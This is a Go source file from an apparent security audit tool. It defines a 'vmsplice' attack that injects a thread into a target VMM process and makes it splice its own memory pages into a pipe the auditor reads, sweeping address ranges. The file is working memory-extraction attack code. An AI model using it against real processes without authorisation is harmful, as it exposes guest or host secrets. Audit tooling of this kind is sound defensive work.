package audit

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"os"

	"golang.org/x/sys/unix"

	"offmap/audit/inject"
)

// vmsplice lends the VMM's pages to a pipe, as they are.
var vmsplice = Avenue{
	Name: "vmsplice", Attack: attackVmsplice,
	About: "has the VMM vmsplice(2) its pages into a pipe that the attacker reads",
}

// vmspliceSize is how many bytes are spliced at a time: the default of
// fs.pipe-max-size.
const vmspliceSize = 1 << 20

func attackVmsplice(ctx context.Context, t Target) (Finding, error) {
	return t.inject(ctx, func(th *inject.Thread) (Finding, error) {
		r, w, err := os.Pipe()
		if err != nil {
			return Finding{}, err
		}
		defer r.Close()
		defer w.Close()
		// A pipe takes as many spliced pages as its size has.
		size, err := unix.FcntlInt(w.Fd(), unix.F_SETPIPE_SZ, vmspliceSize)
		if err != nil {
			return Finding{}, fmt.Errorf("fcntl F_SETPIPE_SZ to %d bytes: %w", vmspliceSize, err)
		}
		theirs, err := th.Give(int(w.Fd()))
		if err != nil {
			return Finding{}, err
		}
		return t.sweep(ctx, size, func(p []byte, addr uint64) (int, error) {
			iov, err := th.Put(remoteIovec(addr, len(p)))
			if err != nil {
				return 0, err
			}
			n, err := th.Call(unix.SYS_VMSPLICE, uint64(theirs), iov, 1, unix.SPLICE_F_NONBLOCK)
			if err != nil {
				return 0, err
			}
			return io.ReadFull(r, p[:n])
		})
	})
}

// remoteIovec is a struct iovec for memory of another process.
func remoteIovec(addr uint64, n int) []byte {
	return binary.LittleEndian.AppendUint64(binary.LittleEndian.AppendUint64(nil, addr), uint64(n))
}
